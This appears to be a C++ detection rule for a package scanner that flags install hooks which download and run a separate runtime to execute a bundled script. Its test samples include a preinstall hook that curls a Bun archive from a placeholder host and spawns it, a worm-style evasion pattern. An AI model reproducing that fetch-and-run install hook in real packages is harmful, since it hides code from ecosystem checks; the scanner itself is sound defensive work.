#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include "base/text.h"
#include "rules/commands.h"
#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

constexpr std::string_view runtimes[] = {"bun", "deno", "node", "python", "python3", "pythonw"};

std::string last_part(std::string_view path) {
  const std::size_t slash = path.find_last_of("/\\");
  return std::string(slash == std::string_view::npos ? path : path.substr(slash + 1));
}

// A runtime in a folder of its own, not one that the machine has anyway.
bool is_own_copy(const std::string& program) {
  const std::size_t slash = program.find_last_of("/\\");
  if (slash == std::string::npos) return false;
  std::string name = to_lower_ascii(last_part(program));
  if (name.ends_with(".exe")) name.resize(name.size() - 4);
  const bool is_system = program.starts_with("/usr/") || program.starts_with("/bin/");
  return !is_system && std::ranges::find(runtimes, name) != std::end(runtimes);
}

const File* script_in(const Facts& facts, const std::vector<std::string>& words) {
  for (std::size_t i = 1; i < words.size() && i < 6; ++i) {
    const std::string name = last_part(words[i]);
    for (const File& file : facts.package->files) {
      const bool is_code = file.kind == FileKind::javascript || file.kind == FileKind::typescript ||
                           file.kind == FileKind::python;
      if (is_code && last_part(file.path) == name) return &file;
    }
  }
  return nullptr;
}

bool downloads(const Action& action) {
  return runs_uncalled(action) && (action.act == Act::fetch || action.act == Act::send ||
                                   (action.act == Act::write_file && action.data.any(foreign)));
}

void check(const Facts& facts, Findings& findings) {
  const Beside downloaders(facts, downloads);
  for (const Action& action : facts.actions) {
    if (!is_process(action.act) || !runs_uncalled(action)) continue;
    const std::vector<std::string> words = words_of(action.target);
    if (words.size() < 2 || !is_own_copy(words[0])) continue;
    const File* script = script_in(facts, words);
    if (script == nullptr) continue;
    const bool is_fetched = downloaders(action) != nullptr;
    findings.add(is_fetched ? Severity::critical : Severity::medium, action.where,
                 sentence("runs " + shown(script->path) + " with a runtime of its own, " +
                              shown(words[0]) + ",",
                          action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule brings_own_runtime = {
    .id = "brings-own-runtime",
    .title = "The package fetches another runtime to run its own script",
    .why =
        "A program for Bun in an npm package, or for Node in a wheel, is looked at by no tool of "
        "that ecosystem, and runs without its permissions and hooks. Worms do it for that.",
    .harmless_when = "A wrapper of the runtime itself starts it, when its user does.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a hook fetches bun for a bundle",
     .expect = "setup.js:4",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
==> setup.js
const {execSync, spawn} = require("child_process"), os = require("os"), path = require("path");
execSync("curl -fsSL -o /tmp/bun.zip https://downloads.example.test/bun.zip");
const bun = path.join(os.tmpdir(), "bun");
spawn(bun, [path.join(__dirname, "bundle.js")], {stdio: "ignore"});
==> bundle.js
console.log("hello");
)"},
    {.name = "a hook runs a script with what is there",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
==> setup.js
require("child_process").spawn("node", ["build.js"]);
==> build.js
console.log("hello");
)"},
};
extern const std::span<const Sample> brings_own_runtime_samples = samples;
#endif

}  // namespace assay::rules
